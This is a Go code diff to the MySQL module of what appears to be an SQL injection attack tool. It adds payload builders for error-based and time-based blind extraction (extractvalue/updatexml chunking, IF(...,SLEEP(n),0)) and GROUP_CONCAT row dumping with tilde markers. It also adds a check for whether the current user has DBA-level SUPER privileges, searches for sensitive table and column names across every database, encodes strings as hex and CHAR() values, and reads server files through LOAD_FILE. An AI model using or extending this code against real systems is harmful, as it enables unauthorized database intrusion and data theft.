@@ -1,7 +1,9 @@
 package dbms
 
 import (
+	"encoding/hex"
 	"fmt"
+	"strconv"
 	"strings"
 )
 
@@ -40,6 +42,18 @@ func (m *MySQL) Char(code int) string {
 	return fmt.Sprintf("CHAR(%d)", code)
 }
 
+// WrapWithMarkers returns CONCAT(CHAR(126),(query),CHAR(126)).
+func (m *MySQL) WrapWithMarkers(query string) string {
+	return m.Concatenate(m.Char(126), "("+query+")", m.Char(126))
+}
+
+// WrapRowsWithMarkers aggregates the rows with GROUP_CONCAT, which skips
+// NULLs; its output is cut at group_concat_max_len.
+func (m *MySQL) WrapRowsWithMarkers(column, from string) string {
+	return fmt.Sprintf("CONCAT(CHAR(126),(SELECT COUNT(%s) FROM %s),CHAR(126),(SELECT COALESCE(GROUP_CONCAT(%s,CHAR(126) SEPARATOR ''),'') FROM %s))",
+		column, from, column, from)
+}
+
 // --- Version and identity ---
 
 // VersionQuery returns the MySQL expression to retrieve the server version.
@@ -62,6 +76,14 @@ func (m *MySQL) HostnameQuery() string {
 	return "@@hostname"
 }
 
+// IsDBAQuery returns the number of SUPER grants to the current user, from
+// information_schema.user_privileges rather than mysql.user, which only a
+// DBA can read. Grantees there are quoted: 'user'@'host'.
+func (m *MySQL) IsDBAQuery() string {
+	return "(SELECT COUNT(*) FROM information_schema.user_privileges WHERE privilege_type='SUPER'" +
+		" AND grantee=CONCAT('''',REPLACE(CURRENT_USER(),'@','''@'''),''''))"
+}
+
 // --- Enumeration queries ---
 
 // ListDatabasesQuery returns a SQL query to list all databases.
@@ -71,45 +93,69 @@ func (m *MySQL) ListDatabasesQuery() string {
 
 // ListTablesQuery returns a SQL query to list all tables in the given database.
 func (m *MySQL) ListTablesQuery(database string) string {
-	return fmt.Sprintf("SELECT table_name FROM information_schema.tables WHERE table_schema='%s'", database)
+	return "SELECT table_name FROM information_schema.tables WHERE table_schema=" + m.QuoteString(database)
 }
 
 // ListColumnsQuery returns a SQL query to list all columns in the given table.
 func (m *MySQL) ListColumnsQuery(database, table string) string {
-	return fmt.Sprintf("SELECT column_name FROM information_schema.columns WHERE table_schema='%s' AND table_name='%s'", database, table)
+	return fmt.Sprintf("SELECT column_name FROM information_schema.columns WHERE table_schema=%s AND table_name=%s",
+		m.QuoteString(database), m.QuoteString(table))
+}
+
+// SearchTablesQuery returns a SQL query to list the tables of every
+// database whose names contain keyword.
+func (m *MySQL) SearchTablesQuery(keyword string) string {
+	return "SELECT CONCAT(table_schema,'.',table_name) FROM information_schema.tables WHERE LOWER(table_name) LIKE " +
+		containsPattern(m, keyword)
+}
+
+// SearchColumnsQuery returns a SQL query to list the columns of every
+// database whose names contain keyword.
+func (m *MySQL) SearchColumnsQuery(keyword string) string {
+	return "SELECT CONCAT(table_schema,'.',table_name,'.',column_name) FROM information_schema.columns WHERE LOWER(column_name) LIKE " +
+		containsPattern(m, keyword)
 }
 
 // CountRowsQuery returns a SQL query to count rows in the given table.
 func (m *MySQL) CountRowsQuery(database, table string) string {
-	return fmt.Sprintf("SELECT COUNT(*) FROM %s.%s", database, table)
+	return "SELECT COUNT(*) FROM " + m.QualifyTable(database, table)
+}
+
+// QualifyTable returns `database`.`table`.
+func (m *MySQL) QualifyTable(database, table string) string {
+	return m.QuoteIdentifier(database) + "." + m.QuoteIdentifier(table)
 }
 
 // DumpQuery returns a SQL query to dump rows from the given table.
 func (m *MySQL) DumpQuery(database, table string, columns []string, offset, limit int) string {
-	return fmt.Sprintf("SELECT %s FROM %s.%s LIMIT %d OFFSET %d",
-		strings.Join(columns, ","), database, table, limit, offset)
+	return m.LimitOffset(fmt.Sprintf("SELECT %s FROM %s",
+		strings.Join(columns, ","), m.QualifyTable(database, table)), offset, limit)
+}
+
+// LimitOffset appends a LIMIT ... OFFSET clause to query.
+func (m *MySQL) LimitOffset(query string, offset, limit int) string {
+	return fmt.Sprintf("%s LIMIT %d OFFSET %d", query, limit, offset)
+}
+
+// SelectRow pages with LimitOffset.
+func (m *MySQL) SelectRow(column, from string, row int) string {
+	return m.LimitOffset(fmt.Sprintf("SELECT %s FROM %s", column, from), row, 1)
 }
 
+// DualTable returns "": MySQL needs no FROM clause.
+func (m *MySQL) DualTable() string { return "" }
+
 // --- Error-based payloads ---
 
 // ErrorPayloads returns MySQL-specific error-based injection payload templates.
 func (m *MySQL) ErrorPayloads() []PayloadTemplate {
-	return []PayloadTemplate{
-		{
-			Name:     "extractvalue",
-			Template: "extractvalue(1,concat(0x7e,({{.Query}})))",
-			Columns:  1,
-			DBMS:     "MySQL",
-		},
-		{
-			Name:     "updatexml",
-			Template: "updatexml(1,concat(0x7e,({{.Query}})),1)",
-			Columns:  1,
-			DBMS:     "MySQL",
-		},
-	}
+	return errorPayloadsFor("MySQL")
 }
 
+// ErrorChunkSize returns 31: extractvalue/updatexml report at most 32
+// characters of the XPath, one of which is the ~ prefix.
+func (m *MySQL) ErrorChunkSize() int { return 31 }
+
 // --- Time-based ---
 
 // SleepFunction returns a MySQL SLEEP(n) expression.
@@ -122,6 +168,11 @@ func (m *MySQL) HeavyQuery() string {
 	return "SELECT BENCHMARK(5000000,SHA1('test'))"
 }
 
+// SleepIf returns IF(condition,SLEEP(n),0).
+func (m *MySQL) SleepIf(condition string, seconds int) string {
+	return fmt.Sprintf("IF(%s,%s,0)", condition, m.SleepFunction(seconds))
+}
+
 // --- Boolean constructs ---
 
 // IfThenElse returns a MySQL IF(condition, trueExpr, falseExpr) expression.
@@ -131,12 +182,38 @@ func (m *MySQL) IfThenElse(condition, trueExpr, falseExpr string) string {
 
 // --- Quoting and comments ---
 
-// QuoteString wraps the string in single quotes, escaping embedded single quotes.
+// QuoteString wraps the string in single quotes, escaping embedded single
+// quotes and the backslashes MySQL would read as escapes.
 func (m *MySQL) QuoteString(s string) string {
-	escaped := strings.ReplaceAll(s, "'", "''")
+	escaped := strings.ReplaceAll(strings.ReplaceAll(s, `\`, `\\`), "'", "''")
 	return fmt.Sprintf("'%s'", escaped)
 }
 
+// QuoteIdentifier wraps the name in backticks, doubling embedded backticks.
+func (m *MySQL) QuoteIdentifier(name string) string {
+	return "`" + strings.ReplaceAll(name, "`", "``") + "`"
+}
+
+// HexString returns s as a 0x hex literal of its bytes.
+func (m *MySQL) HexString(s string) string {
+	if s == "" {
+		return m.QuoteString(s)
+	}
+	return "0x" + hex.EncodeToString([]byte(s))
+}
+
+// CharEncode returns s as CHAR(c1,c2,...) of its bytes.
+func (m *MySQL) CharEncode(s string) string {
+	if s == "" {
+		return m.QuoteString(s)
+	}
+	codes := make([]string, len(s))
+	for i := 0; i < len(s); i++ {
+		codes[i] = strconv.Itoa(int(s[i]))
+	}
+	return "CHAR(" + strings.Join(codes, ",") + ")"
+}
+
 // CommentSequence returns the MySQL line comment sequence.
 func (m *MySQL) CommentSequence() string {
 	return "-- "
@@ -151,7 +228,7 @@ func (m *MySQL) InlineComment() string {
 
 // FileReadQuery returns a MySQL expression to read a file from the server.
 func (m *MySQL) FileReadQuery(path string) string {
-	return fmt.Sprintf("LOAD_FILE('%s')", path)
+	return "LOAD_FILE(" + m.QuoteString(path) + ")"
 }
 
 // --- Capabilities ---